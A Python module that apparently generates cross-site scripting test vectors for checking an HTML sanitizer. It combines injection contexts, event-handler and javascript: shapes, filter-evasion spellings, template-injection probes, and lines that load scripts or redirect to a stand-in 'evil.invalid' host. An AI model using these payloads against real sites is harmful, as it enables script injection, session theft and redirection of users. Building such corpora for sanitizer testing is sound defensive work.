"""Texts that would run if a page took them for markup, made by putting shapes into contexts and spelling them in
different ways. Each says which naive page it would run on, so that a test can show that it is no blank."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass

HOST = "evil.invalid"
MARK = "data-planted"

ACTS = (
    "ran({n})",
    "top.ran({n})",
    "alert({n})",
    f"fetch('//{HOST}/{{n}}')",
    "window['ra'+'n']({n})",
    "setTimeout('ran({n})')",
    "ran`{n}`",
    "document.title='ran {n}'",
)
"""What a vector does once it runs. A test defines ``ran`` in every frame."""

EVENTS = (
    ("img", "src=x", "onerror"),
    ("img", "src=data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=", "onload"),
    ("svg", "", "onload"),
    ("svg", "><animate attributeName=x dur=1s", "onbegin"),
    ("body", "", "onload"),
    ("body", "", "onpageshow"),
    ("details", "open", "ontoggle"),
    ("video", "src=x", "onerror"),
    ("video", "><source", "onerror"),
    ("audio", "src=x", "onerror"),
    ("input", "autofocus", "onfocus"),
    ("textarea", "autofocus", "onfocus"),
    ("select", "autofocus", "onfocus"),
    ("a", "tabindex=0 autofocus", "onfocus"),
    ("iframe", "", "onload"),
    ("object", "data=x", "onerror"),
    ("link", "rel=stylesheet href=x", "onerror"),
    ("script", "src=x", "onerror"),
    ("style", "", "onload"),
    ("marquee", "", "onstart"),
    ("div", "style=position:fixed;inset:0", "onpointerover"),
    ("div", "contenteditable autofocus", "onfocusin"),
    ("form", "><input type=image src=x", "onerror"),
    ("math", "><mtext autofocus tabindex=0", "onfocus"),
)
"""Elements, what they need, and the event that needs nobody's doing (or next to it)."""

WHOLE = (
    "<script {m}>{act}</script>",
    f"<script {{m}} src=//{HOST}/{{n}}.js></script>",
    "<script {m} src=data:text/javascript,{act}></script>",
    "<svg {m}><script>{act}</script></svg>",
    "<iframe {m} srcdoc='<script>parent.{act}</script>'></iframe>",
    "<iframe {m} src=javascript:{act}></iframe>",
    "<object {m} data=javascript:{act}></object>",
    "<embed {m} src=javascript:{act}>",
    "<a {m} href=javascript:{act}>x</a>",
    "<form {m} action=javascript:{act}><button>x</button></form>",
    "<button {m} formaction=javascript:{act}>x</button>",
    "<math {m}><mtext href=javascript:{act}>x</mtext></math>",
    "<svg {m}><a href=javascript:{act}><text y=9>x</text></a></svg>",
    f"<base {{m}} href=//{HOST}/>",
    f"<meta {{m}} http-equiv=refresh content='0;url=//{HOST}/{{n}}'>",
    f"<link {{m}} rel=stylesheet href=//{HOST}/{{n}}.css>",
    f"<style {{m}}>@import '//{HOST}/{{n}}.css';</style>",
    f"<img {{m}} src=//{HOST}/{{n}}.png>",
    "<template {m}><script>{act}</script></template><img {m} src=x onerror={act}>",
    "<noscript {m}><p title='</noscript><img {m} src=x onerror={act}>'></noscript>",
    "<math {m}><mi><style><img title='</style><img {m} src=x onerror={act}>'></style></mi></math>",
)
"""Shapes that are no element with an event."""

Wrap = Callable[[str], str]
CONTEXTS: tuple[tuple[str, str, Wrap], ...] = (
    ("text", "{v}", lambda v: f"<p>{v}</p>"),
    ("quoted", '">{v}', lambda v: f'<input value="{v}">'),
    ("apostrophe", "'>{v}", lambda v: f"<input value='{v}'>"),
    ("bare attribute", " >{v}", lambda v: f"<input value={v}>"),
    ("title", "</title>{v}", lambda v: f"<title>{v}</title>"),
    ("area", "</textarea>{v}", lambda v: f"<textarea>{v}</textarea>"),
    ("option", "</option></select>{v}", lambda v: f"<select><option>{v}</select>"),
    ("script", "</script>{v}", lambda v: f'<script>var a = "{v}"</script>'),
    ("style", "</style>{v}", lambda v: f"<style>p {{ content: '{v}' }}</style>"),
    ("comment", "-->{v}", lambda v: f"<!-- {v} -->"),
    ("cell", "</td></tr></table>{v}", lambda v: f"<table><tr><td>{v}</table>"),
    ("list of keys", "\"]]'>{v}", lambda v: f"<p data-keys='[[\"{v}\"]]'>x</p>"),
    ("vector graphic", "</text></svg>{v}", lambda v: f"<svg><text>{v}</text></svg>"),
)
"""Where a text may stand, how it gets out of there, and the page that lets it."""

INSIDE: tuple[tuple[str, str, Wrap], ...] = (
    ("quoted", '" autofocus tabindex=0 {m} onfocus="{act}" x="', lambda v: f'<a href="{v}">x</a>'),
    ("quoted", '"/autofocus/tabindex=0/{m}/onfocus={act}//', lambda v: f'<a title="{v}">x</a>'),
    ("apostrophe", "' autofocus tabindex=0 {m} onfocus='{act}", lambda v: f"<a title='{v}'>x</a>"),
    ("bare attribute", "x autofocus tabindex=0 {m} onfocus={act}", lambda v: f"<a title={v}>x</a>"),
    ("javascript string", '";{act};//', lambda v: f'<script>var a = "{v}";</script>'),
    ("javascript string", "';{act};//", lambda v: f"<script>var a = '{v}';</script>"),
    (
        "javascript string",
        '\\";{act};//',
        lambda v: '<script>var a = "' + v.replace('"', '\\"') + '";</script>',
    ),
    ("javascript template", "${{{act}}}", lambda v: f"<script>var a = `{v}`;</script>"),
    ("javascript", "0;{act}", lambda v: f"<script>var a = {v};</script>"),
    ("handler", "x');{act};//", lambda v: f"<img src=x onerror=\"void('{v}')\">"),
    ("address", "javascript:{act}", lambda v: f'<iframe src="{v}"></iframe>'),
    ("address", "JaVaScRiPt:{act}", lambda v: f'<iframe src="{v}"></iframe>'),
    ("address", " \tjava\tscript:{act}", lambda v: f'<iframe src="{v}"></iframe>'),
    ("address", "javascript://%0a{act}", lambda v: f'<iframe src="{v}"></iframe>'),
    ("page template", "{{{{ 7 * 191 }}}}{{% print({n}) %}}", lambda v: f"<p>{v}</p>"),
    ("page template", "{{{{ self.__init__.__globals__ }}}}", lambda v: f"<p>{v}</p>"),
)
"""What needs no element of its own."""


@dataclass(frozen=True)
class Vector:
    """One text. ``naive`` is the page it would run on."""

    n: int
    text: str
    context: str
    naive: str


def vectors() -> list[Vector]:
    """All of them; no two alike."""
    found: dict[str, Vector] = {}
    for context, text, naive in _texts():
        n = len(found) + 1
        made = text(n)
        found.setdefault(made, Vector(n, made, context, naive(made)))
    return list(found.values())


def _texts() -> Iterator[tuple[str, Callable[[int], str], Wrap]]:
    at = 0
    for shape in (*(_event(*one) for one in EVENTS), *WHOLE):
        for context, out, wrap in CONTEXTS:
            at += 1
            yield context, _made(out, shape, at), wrap
    for act in range(len(ACTS)):
        for context, inside, wrap in INSIDE:
            yield context, _filled(inside, act), wrap


def _event(tag: str, needs: str, event: str) -> str:
    return f"<{tag} {{m}} {needs} {event}={{q}}{{act}}{{q}}>"


def _filled(shape: str, act: int) -> Callable[[int], str]:
    return lambda n: shape.format(m=f"{MARK}={n}", n=n, act=ACTS[act].format(n=n))


def _made(out: str, shape: str, at: int) -> Callable[[int], str]:
    def made(n: int) -> str:
        act = ACTS[at % len(ACTS)].format(n=n)
        quote = "" if "'" not in act and "`" not in act else '"'
        plain = shape.format(m=f"{MARK}={n}", n=n, q=quote, act=act)
        return out.format(v=SPELLINGS[at % len(SPELLINGS)](plain))

    return made


def _mixed(text: str) -> str:
    """Upper and lower letters in the name of the element."""
    head, gap, rest = text.partition(" ")
    return "".join(c.upper() if i % 2 else c for i, c in enumerate(head)) + gap + rest


def _slashed(text: str) -> str:
    return text.replace(" ", "/", 1)


def _broken(text: str) -> str:
    return text.replace(" ", "\n", 1).replace(" on", "\ton", 1)


def _unclosed(text: str) -> str:
    return text.removesuffix(">") + "//"


def _doubled(text: str) -> str:
    return f"<{text}"


def _numbered(text: str) -> str:
    """Letters of the act as character references, which an attribute's value decodes."""
    if "<script" in text or "<style" in text:
        return text
    return text.replace("ran(", "&#114;&#x61;n(").replace("alert(", "&#97;lert(")


def _apart(text: str) -> str:
    """For whoever takes ``<script>`` out once and is content."""
    return text.replace("<script", "<scr<script>ipt") if "<script" in text else f"<x>{text}"


def _referenced(text: str) -> str:
    """For whoever decodes once too often."""
    return text.replace("<", "&lt;").replace(">", "&gt;")


def _percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E")


def _escaped(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\u003e")


def _wide(text: str) -> str:
    """Letters that a careless normalisation turns into the real ones."""
    return text.replace("<", "＜").replace(">", "＞")


PLAIN: tuple[Callable[[str], str], ...] = (str, _mixed, _slashed, _broken, _numbered)
SPELLINGS = (
    *PLAIN, *PLAIN, _unclosed, _doubled, _apart, _referenced, _percent, _escaped, _wide,
)  # fmt: skip
"""Ways of writing the same. The last four run only where something decodes them; the rest run as they are."""
